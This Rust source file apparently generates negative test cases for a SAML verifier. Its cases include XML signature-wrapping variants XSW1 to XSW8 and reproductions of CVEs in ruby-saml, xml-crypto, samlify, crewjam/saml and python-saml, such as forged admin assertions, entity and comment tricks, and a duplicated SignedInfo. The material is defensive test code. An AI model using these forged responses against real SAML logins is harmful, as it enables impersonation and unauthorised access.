//! Signature wrapping (the eight of SAML Raider) and the attacks that have a CVE.

use crate::Case;
use crate::parts::{Keys, both_signed, cut, forged, good};

pub(crate) fn cases(keys: &Keys) -> anyhow::Result<Vec<Case>> {
    let good = good(keys)?;
    let both = both_signed(keys)?;
    let assertion = cut(&good, "saml:Assertion")?;
    let signature = cut(&good, "ds:Signature")?;
    let bare = assertion.replace(&signature, "");
    let forged_bare = forged(&bare);
    let put = |inner: &str| good.replace(&assertion, inner).into_bytes();
    let in_signature = |inner: &str| signature.replace("</ds:Signature>", &format!("{inner}</ds:Signature>"));
    // The forged assertion with a signature in it: `forged` would change the reference, too.
    let forged_with =
        |signature: &str| forged_bare.replacen("</saml:Issuer>", &format!("</saml:Issuer>{signature}"), 1);
    let object = |inner: &str| in_signature(&format!("<ds:Object>{inner}</ds:Object>"));
    let mut cases: Vec<Case> = vec![
        ("xsw3-forged-before-signed", put(&format!("{forged_bare}{assertion}"))),
        (
            "xsw4-forged-around-signed",
            put(&forged_bare.replace("</saml:Assertion>", &format!("{assertion}</saml:Assertion>"))),
        ),
        ("xsw5-signed-altered-original-behind", put(&format!("{}{bare}", forged_with(&signature)))),
        ("xsw6-original-in-signature", put(&forged_with(&in_signature(&bare)))),
        (
            "xsw7-forged-in-extensions",
            good.replacen(
                "<samlp:Status>",
                &format!("<samlp:Extensions>{}</samlp:Extensions><samlp:Status>", bare.replace("olivia", "admin")),
                1,
            )
            .into_bytes(),
        ),
        ("xsw8-original-in-object", put(&forged_with(&object(&bare)))),
        ("wrapped-forged-behind-signed", put(&format!("{assertion}{forged_bare}"))),
        (
            "wrapped-forged-in-extensions-other-id",
            good.replacen(
                "<samlp:Status>",
                &format!("<samlp:Extensions>{forged_bare}</samlp:Extensions><samlp:Status>"),
                1,
            )
            .into_bytes(),
        ),
        (
            "wrapped-signed-in-advice",
            put(&forged_bare.replace(
                "<saml:AuthnStatement ",
                &format!("<saml:Advice>{assertion}</saml:Advice><saml:AuthnStatement "),
            )),
        ),
        (
            "wrapped-signed-in-confirmation-data",
            put(&forged_bare.replace(
                "InResponseTo=\"_request1\"/>",
                &format!("InResponseTo=\"_request1\">{assertion}</saml:SubjectConfirmationData>"),
            )),
        ),
        (
            "wrapped-signature-in-issuer",
            put(&bare.replacen("</saml:Issuer>", &format!("{signature}</saml:Issuer>"), 1)),
        ),
    ];
    cases.extend(of_response(&both)?);
    cases.extend(known(keys, &good, &assertion, &bare)?);
    Ok(cases)
}

/// The two that move a signed Response.
fn of_response(both: &str) -> anyhow::Result<Vec<Case>> {
    let signature = both.split_once("</saml:Issuer>").map(|(_, rest)| rest).unwrap_or_default();
    let end = "</ds:Signature>";
    let signature = signature.split_once(end).map(|(body, _)| format!("{body}{end}")).unwrap_or_default();
    let copy = both.replacen(&signature, "", 1);
    let evil = forged(&copy).replace("_response1", "_forged_response1");
    let evil = evil.replacen(&cut(&evil, "ds:Signature")?, "", 1);
    let around = |inner: &str| evil.replacen("</saml:Issuer>", &format!("</saml:Issuer>{inner}"), 1).into_bytes();
    Ok(vec![
        ("xsw1-response-in-signature", around(&signature.replace(end, &format!("{copy}{end}")))),
        ("xsw2-response-before-signature", around(&format!("{copy}{signature}"))),
    ])
}

/// Attacks on other implementations.
fn known(keys: &Keys, good: &str, assertion: &str, bare: &str) -> anyhow::Result<Vec<Case>> {
    let with = |from: &str, to: &str| good.replacen(from, to, 1).into_bytes();
    let digest = cut(good, "ds:DigestValue")?.replacen(
        "<ds:DigestValue>",
        "<ds:DigestValue xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">",
        1,
    );
    let detail = |inner: &str| format!("<samlp:StatusDetail>{inner}</samlp:StatusDetail></samlp:Status>");
    let altered = good.replace("olivia@example.com", "admin@example.com");
    let quirk = "<!DOCTYPE Response [<!ENTITY id \"_assertion1\">]>";
    let twice = |text: &str| text.replacen("</ds:SignedInfo>", "</ds:SignedInfo><ds:SignedInfo/>", 1).into_bytes();
    let forged_bare = forged(bare);
    let evil_mail =
        crate::parts::signed_after(keys, |text| text.replace("olivia@example.com", "olivia@example.com.evil.example"))?;
    Ok(vec![
        // crewjam/saml took the first assertion, and verified any.
        ("cve-2022-41912", with(assertion, &format!("{forged_bare}{assertion}"))),
        // GitHub Enterprise Server: an id that libxml2 finds only after expanding an entity.
        ("cve-2025-23369", format!("{quirk}{}", altered.replacen("ID=\"_assertion1\"", "ID=\"&id;\"", 1)).into_bytes()),
        // ruby-saml: a document type that one parser reads and the other one writes anew.
        (
            "cve-2025-25291",
            format!("<!DOCTYPE r [<!NOTATION x SYSTEM \"x'\"><!ENTITY y '\"><!--'>]>{good}").into_bytes(),
        ),
        // ruby-saml: two signatures, of which each parser finds another one.
        ("cve-2025-25292", altered.replacen("</samlp:Status>", &detail(&cut(good, "ds:Signature")?), 1).into_bytes()),
        ("wrapped-second-signature-in-status", with("</samlp:Status>", &detail(&cut(good, "ds:Signature")?))),
        // xml-crypto: a second SignedInfo.
        ("cve-2025-29774", twice(good)),
        // xml-crypto: a comment in DigestValue.
        ("cve-2025-29775", altered.replacen("<ds:DigestValue>", "<ds:DigestValue><!--AAAA-->", 1).into_bytes()),
        // samlify: the signed assertion stays for the verifier, a forged one is read.
        (
            "cve-2025-47949",
            with("<samlp:Status>", &format!("{assertion}<samlp:Status>"))
                .strip_suffix(format!("{assertion}</samlp:Response>").as_bytes())
                .map(|start| [start, forged_bare.as_bytes(), b"</samlp:Response>"].concat())
                .unwrap_or_default(),
        ),
        // ruby-saml: the digest is looked for anywhere in the document.
        ("cve-2024-45409", altered.replacen("</samlp:Status>", &detail(&digest), 1).into_bytes()),
        // python-saml and others: the text up to a comment.
        (
            "cve-2018-0489",
            evil_mail
                .replacen("olivia@example.com.evil.example", "olivia@example.com<!---->.evil.example", 1)
                .into_bytes(),
        ),
        // The assertion alone is no answer to anything.
        (
            "message-bare-assertion",
            assertion
                .replacen(
                    "<saml:Assertion ",
                    "<saml:Assertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\" ",
                    1,
                )
                .into_bytes(),
        ),
    ])
}
